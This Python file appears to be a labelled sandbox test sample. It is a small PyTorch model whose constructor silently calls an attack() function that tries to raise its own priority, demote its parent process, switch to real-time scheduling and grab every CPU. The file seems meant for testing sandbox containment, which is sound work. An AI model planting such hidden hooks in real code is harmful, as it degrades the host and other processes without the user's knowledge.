# group: kernel
# tries: takes a better priority for itself and a worse one for its parent
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    for act in (
        lambda: os.nice(-20) < 0 or 1 / 0,
        lambda: os.getppid() < 1 or os.setpriority(os.PRIO_PROCESS, os.getppid(), 19) or True,
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or True,
    ):
        try:
            if act() and os.getppid() > 0:
                print("BREACH priority")
        except (OSError, ZeroDivisionError):
            continue
    for process in (0, os.getppid()):
        try:
            os.sched_setaffinity(process, range(4096))
        except OSError:
            continue


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
